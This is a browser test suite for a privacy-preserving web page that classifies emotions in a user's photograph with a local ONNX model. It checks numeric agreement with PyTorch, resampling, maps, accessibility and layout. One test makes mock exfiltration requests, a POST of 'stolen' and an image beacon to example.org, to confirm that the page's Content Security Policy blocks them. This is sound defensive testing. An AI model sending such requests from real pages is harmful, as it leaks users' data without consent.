"""The page *Your own picture* in a real browser: its numbers are PyTorch's, and nothing leaves the machine."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
from PIL import Image
from sklearn.datasets import load_sample_images

from emolib import site
from emolib.corpora.pictures import read_resized
from emolib.emotions import MIKELS
from emolib.errors import Unavailable
from emolib.site import ownpicture
from emolib.site.ownpicture import model as ownmodel
from emolib.site.ownpicture import webruntime
from tests.fixtures.book import small_notebook, write_book, write_run
from tests.fixtures.corpora import write_oasis
from tests.site.conftest import CONTRAST, IN_A_BROWSER

PAGE = "run/ownpicture.html"

pytestmark = IN_A_BROWSER


@pytest.fixture(scope="module")
def published(tmp_path_factory) -> Iterator[tuple[Path, ownmodel.OwnPicture]]:
    """A small book with the page, and the PyTorch model that was exported into it."""
    try:
        webruntime.runtime_files(lambda line: None)
    except Unavailable as error:
        pytest.skip(f"the runtime is out of reach: {error}")
    root, data = tmp_path_factory.mktemp("ownpicture"), tmp_path_factory.mktemp("data")
    write_book(root)
    write_run(root, small_notebook(), profile="ci")
    toc = root / "book" / "_toc.yml"
    toc.write_text(toc.read_text() + f"  - file: {ownpicture.SOURCE}\n")
    write_oasis(data, n_series=30, seed=4)
    kept = []
    to_onnx = ownmodel.to_onnx
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("EMOLIB_DATA", str(data))
        patch.setattr(ownmodel, "to_onnx", lambda network: kept.append(network) or to_onnx(network))
        html = site.build(root, "ci", echo=lambda line: None)
    yield html, kept[0]


@pytest.fixture(scope="module")
def html(published) -> Path:
    """The folder of the site that the browser opens."""
    return published[0]


@pytest.fixture(scope="module")
def photographs(tmp_path_factory) -> dict[str, Path]:
    """Real photographs in the shapes that readers have."""
    folder = tmp_path_factory.mktemp("photographs")
    china, flower = (Image.fromarray(pixels) for pixels in load_sample_images().images)
    files = {}

    def keep(name: str, image: Image.Image, **options) -> None:
        files[name] = folder / name
        image.save(folder / name, **options)

    keep("landscape.png", china)
    keep("landscape.jpg", china, quality=90)
    keep("large.jpg", flower.resize((4032, 2687), Image.Resampling.LANCZOS), quality=92)
    keep("upright.png", china.crop((200, 0, 480, 427)))
    keep("tall.png", china.resize((1280, 854), Image.Resampling.LANCZOS).crop((500, 0, 850, 854)))
    keep("small.png", flower.resize((97, 130)))
    turned = Image.Exif()
    turned[0x0112] = 6
    keep("turned.jpg", flower, quality=95, exif=turned)
    keep("grey.png", china.convert("L"))
    alpha = Image.fromarray(np.tile(np.linspace(0, 255, china.width).astype(np.uint8), (china.height, 1)))
    clear = china.copy()
    clear.putalpha(alpha)
    keep("clear.png", clear)
    keep("wide.webp", flower.crop((0, 100, 640, 260)), lossless=True)
    return files


def give(page, path: Path) -> dict[str, float]:
    """Gives the page a picture; returns the numbers that it shows."""
    page.locator("[data-part=file]").set_input_files(path)
    page.wait_for_function(
        "name => document.querySelector('[data-part=status]').textContent.startsWith(`Done: ${name}`)", arg=path.name
    )
    return shown(page)


def shown(page) -> dict[str, float]:
    found = page.evaluate("[...document.querySelectorAll('#own-picture data')].map((d) => [d.dataset.name, d.value])")
    return {name: float(value) for name, value in found}


def of_pytorch(network: ownmodel.OwnPicture, path: Path) -> tuple[dict[str, float], dict[str, np.ndarray]]:
    answer = ownmodel.run_torch(network, read_resized(path, 224)[None])
    numbers = dict(zip((*MIKELS, "valence", "arousal"), (*answer["emotions"][0], *answer["plane"][0]), strict=True))
    return numbers, dict(zip(numbers, answer["maps"][0], strict=True))


def test_its_numbers_are_those_of_pytorch(visit, published, photographs):
    """From the file to the numbers on the page: decoding, resizing, network and heads."""
    page = visit().open(PAGE)
    apart = {}
    for name, path in photographs.items():
        expected = of_pytorch(published[1], path)[0]
        found = give(page, path)
        assert found.keys() == expected.keys()
        apart[name] = max(abs(found[key] - expected[key]) for key in expected)
    # Since version 13 Pillow shrinks pictures more than twice as tall as wide downwards first; the script, as earlier
    # versions, across first, with other roundings in between.
    tall = apart.pop("tall.png")
    assert max(apart.values()) < 1e-3, apart
    assert tall < 1e-2, tall


def test_pictures_are_made_small_as_everywhere_else_in_the_book(visit, published, tmp_path):
    """Pixels in, bytes out: the script's resampling against Pillow's."""
    page = visit().open(PAGE)
    script = next((published[0] / "_static" / "ownpicture").rglob("resample.js")).relative_to(published[0])
    run = """async ([script, pixels, width, height]) => {
      const { resample } = await import(script);
      const bytes = Uint8Array.from(atob(pixels), (letter) => letter.charCodeAt(0));
      const rows = (from, count) => bytes.subarray(from * width * 4, (from + count) * width * 4);
      return [...resample(rows, width, height, 256, 224)];
    }"""
    random = np.random.default_rng(0)
    for width, height in ((640, 427), (427, 640), (1001, 777), (256, 256), (90, 61), (61, 90), (1500, 400), (224, 225)):
        pixels = random.integers(0, 256, (height, width, 4), dtype=np.uint8)
        Image.fromarray(pixels[..., :3]).save(tmp_path / "picture.png")
        expected = read_resized(tmp_path / "picture.png", 224).astype(int)
        sent = base64.b64encode(pixels.tobytes()).decode()
        found = page.evaluate(run, ["/" + script.as_posix(), sent, width, height])
        assert np.array_equal(np.array(found).reshape(224, 224, 3), expected), (width, height)


def test_the_map_is_of_what_one_chooses(visit, published, photographs):
    page = visit().open(PAGE)
    path = photographs["landscape.png"]
    numbers = give(page, path)
    maps = of_pytorch(published[1], path)[1]
    choice, legend, picture = (page.locator(f"[data-part={name}]") for name in ("choice", "legend", "map"))
    likeliest = max(MIKELS, key=numbers.get)
    assert choice.input_value() == likeliest
    of_emotions = f"{max(np.abs(maps[name]).max() for name in MIKELS):.2f}"
    seen = set()
    for name in MIKELS:
        choice.select_option(name)
        assert name in legend.inner_text() and of_emotions in legend.inner_text()
        row, column = np.unravel_index(maps[name].argmax(), maps[name].shape)
        where = picture.get_attribute("aria-label")
        assert (("top" in where) == (row < 2)) and (("bottom" in where) == (row > 4)), (name, row, where)
        assert (("left" in where) == (column < 2)) and (("right" in where) == (column > 4)), (name, column, where)
        seen.add(picture.evaluate("canvas => canvas.toDataURL()"))
    assert len(seen) == len(MIKELS)
    choice.select_option("")
    grey = picture.evaluate("c => [...c.getContext('2d').getImageData(100, 100, 1, 1).data]")
    assert grey[0] == grey[1] == grey[2]


def test_the_map_is_red_where_the_answer_comes_from(visit, published, photographs):
    page = visit().open(PAGE)
    path = photographs["landscape.png"]
    give(page, path)
    valence = of_pytorch(published[1], path)[1]["valence"]
    page.locator("[data-part=choice]").select_option("valence")
    side = 448 // valence.shape[0]
    colours = page.locator("[data-part=map]").evaluate(
        """(canvas, side) => Array.from({length: 49}, (_, i) => {
          const at = [(i % 7 + .5) * side, (Math.floor(i / 7) + .5) * side];
          const [red, , blue] = canvas.getContext('2d').getImageData(...at, 1, 1).data;
          return red - blue;
        })""",
        side,
    )
    # The average photograph's answer is taken off, so that both colours occur.
    assert np.corrcoef(colours, valence.ravel())[0, 1] > 0.8
    assert min(colours) < 0 < max(colours)


def test_nothing_leaves_the_machine(visit, photographs, address):
    window = visit()
    page = window.open(PAGE)
    assert not [e for e in window.errors if "Content Security Policy" in e]
    give(page, photographs["landscape.jpg"])
    assert window.refused == [] and window.errors == []
    tries = """async (address) => {
      const worked = (promise) => promise.then(() => true, () => false);
      const image = new Image();
      const loaded = new Promise((yes, no) => { image.onload = yes; image.onerror = no; });
      image.src = "https://example.org/?stolen";
      return [await worked(fetch("https://example.org/", { method: "POST", body: "stolen" })),
              await worked(fetch(address + "index.html")), await worked(loaded)];
    }"""
    assert page.evaluate(tries, address) == [False, True, False]
    # The browser's own refusal: the requests never came as far as the test's.
    assert window.refused == [] and len([e for e in window.errors if "Content Security Policy" in e]) >= 2


def test_other_pages_load_nothing_of_it(visit):
    window, asked = visit(), []
    window.page.on("request", lambda request: asked.append(request.url))
    window.open("intro.html")
    window.open(PAGE)
    # The model and the runtime, most of the weight, wait for a picture.
    assert [url.rsplit("/", 1)[1] for url in asked if "/ownpicture/" in url and url.endswith((".onnx", ".wasm"))] == []


def test_what_is_no_picture_is_said(visit, photographs, tmp_path):
    page = visit().open(PAGE)
    status = page.locator("[data-part=status]")
    (tmp_path / "page.jpg").write_text("<html></html>")
    Image.new("RGB", (3000, 20)).save(tmp_path / "strip.png")
    for name, said in (("page.jpg", "can't be read as a picture"), ("strip.png", "3000 × 20 pixels")):
        page.locator("[data-part=file]").set_input_files(tmp_path / name)
        page.wait_for_function(
            "said => document.querySelector('[data-part=status]').textContent.includes(said)", arg=said
        )
        assert not page.locator("[data-part=result]").is_visible()
    give(page, photographs["small.png"])
    assert "has not left this machine" in status.inner_text() and page.locator("[data-part=result]").is_visible()


def test_the_last_of_several_pictures_is_shown(visit, published, photographs):
    page = visit().open(PAGE)
    page.locator("[data-part=file]").set_input_files(photographs["large.jpg"])
    found = give(page, photographs["small.png"])
    page.wait_for_timeout(500)
    assert shown(page) == found
    expected = of_pytorch(published[1], photographs["small.png"])[0]
    assert all(abs(found[key] - expected[key]) < 1e-3 for key in expected)


def test_a_picture_can_be_dropped_and_pasted(visit, published, photographs):
    page = visit().open(PAGE)
    path = photographs["small.png"]
    expected = of_pytorch(published[1], path)[0]
    hand_over = """([kind, target, name, content]) => {
      const data = new DataTransfer();
      const bytes = Uint8Array.from(atob(content), (letter) => letter.charCodeAt(0));
      data.items.add(new File([bytes], name, { type: "image/png" }));
      const options = { bubbles: true, cancelable: true };
      const event = kind === "drop" ? new DragEvent("drop", { ...options, dataTransfer: data })
                                    : new ClipboardEvent("paste", { ...options, clipboardData: data });
      document.querySelector(target).dispatchEvent(event);
    }"""
    content = base64.b64encode(path.read_bytes()).decode()
    for kind, target in (("drop", "[data-part=drop]"), ("paste", "body")):
        page.evaluate(hand_over, [kind, target, f"{kind}.png", content])
        page.wait_for_function(
            "n => document.querySelector('[data-part=status]').textContent.startsWith(`Done: ${n}`)", arg=f"{kind}.png"
        )
        assert all(abs(shown(page)[key] - expected[key]) < 1e-3 for key in expected)


def test_the_camera_takes_a_picture_and_is_let_go(visit):
    window = visit()
    window.context.grant_permissions(["camera"])
    page = window.open(PAGE)
    page.evaluate(
        """() => { const ask = navigator.mediaDevices.getUserMedia.bind(navigator.mediaDevices);
          navigator.mediaDevices.getUserMedia = async (wish) => (window.taken = await ask(wish)); }"""
    )
    page.locator("[data-part=camera]").click()
    page.wait_for_function("() => document.querySelector('[data-part=video]').videoWidth > 0")
    assert page.evaluate("document.activeElement.dataset.part") == "shoot"
    page.keyboard.press("Enter")
    page.wait_for_function("() => document.querySelector('[data-part=status]').textContent.startsWith('Done')")
    assert sum(shown(page)[name] for name in MIKELS) == pytest.approx(1, abs=1e-4)
    assert not page.locator("[data-part=finder]").is_visible()
    assert page.evaluate("window.taken.getTracks().map((track) => track.readyState)") == ["ended"]
    page.locator("[data-part=camera]").click()
    page.locator("[data-part=shoot]").wait_for(state="visible")
    page.keyboard.press("Escape")
    assert not page.locator("[data-part=finder]").is_visible()
    assert page.evaluate("window.taken.getTracks()[0].readyState") == "ended"


def test_the_keyboard_is_enough(visit, photographs):
    page, choosers = visit().open(PAGE), []
    # From the start: a dialogue that opens before the test listens would be the browser's own.
    page.on("filechooser", lambda chooser: choosers.append(chooser))
    page.locator("article h1").click()
    for _ in range(12):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.dataset.part") == "file":
            break
    assert page.evaluate("document.activeElement.dataset.part") == "file"
    outline = "getComputedStyle(document.querySelector('[data-part=drop]')).outlineStyle"
    assert page.evaluate(outline) == "solid"  # one sees where one is
    page.keyboard.press("Enter")
    for _ in range(200):
        if choosers:
            break
        page.wait_for_timeout(50)
    choosers[0].set_files(photographs["small.png"])
    page.wait_for_function("() => document.querySelector('[data-part=status]').textContent.startsWith('Done')")
    parts = []
    for _ in range(6):
        page.keyboard.press("Tab")
        parts.append(page.evaluate("document.activeElement.dataset.part ?? document.activeElement.tagName"))
    assert parts[:4] == ["camera", "choice", "SUMMARY", "SUMMARY"]
    page.locator("[data-part=choice]").focus()
    before = page.locator("[data-part=legend]").inner_text()
    page.keyboard.press("End")
    page.keyboard.press("ArrowUp")
    assert page.locator("[data-part=choice]").input_value() == "arousal"
    assert page.locator("[data-part=legend]").inner_text() != before


def test_a_phone_never_scrolls_sideways(visit, photographs):
    page = visit(width=390).open(PAGE)
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    give(page, photographs["wide.webp"])
    for summary in page.locator("#own-picture summary").all():
        summary.click()
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    for drawing in page.locator("#own-picture figure > :is(svg, canvas)").all():
        box = drawing.bounding_box()
        assert box["x"] >= 0 and box["x"] + box["width"] <= 390 and box["height"] > 150
    # No word of a drawing is cut off by its edge.
    inside = """() => [...document.querySelectorAll('#own-picture svg text')].every((text) => {
      const outer = text.ownerSVGElement.getBoundingClientRect(), own = text.getBoundingClientRect();
      return own.left >= outer.left - 1 && own.right <= outer.right + 1 && own.bottom <= outer.bottom + 1;
    })"""
    assert page.evaluate(inside)


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_stands_out_from_its_ground(visit, photographs, scheme):
    page = visit(scheme=scheme).open(PAGE)
    give(page, photographs["small.png"])
    for summary in page.locator("#own-picture summary").all():
        summary.click()
    assert page.evaluate("document.documentElement.dataset.theme") == scheme
    selectors = ["drop] span", "status]", "camera]", "choice]", "legend]", "likeliest]", "emotions] td", "point]"]
    found = page.evaluate(CONTRAST, [f"#own-picture [data-part={name}" for name in selectors])
    assert all(ratio is not None for ratio in found.values()), found
    assert {selector: round(ratio, 2) for selector, ratio in found.items() if ratio < 4.5} == {}
    ink = page.evaluate("getComputedStyle(document.querySelector('#own-picture svg text')).fill")
    assert ink == page.evaluate("getComputedStyle(document.querySelector('[data-part=status]')).color")


def test_every_drawing_is_described(visit, photographs):
    page = visit().open(PAGE)
    numbers = give(page, photographs["small.png"])
    wheel, plane = (page.locator(f"[data-part={name}]").get_attribute("aria-label") for name in ("wheel", "plane"))
    for name in MIKELS:
        assert f"{name} {round(100 * numbers[name])}%" in wheel
    assert f"valence {numbers['valence']:.1f}, arousal {numbers['arousal']:.1f}" in plane
    assert page.locator("[data-part=status]").get_attribute("role") == "status"
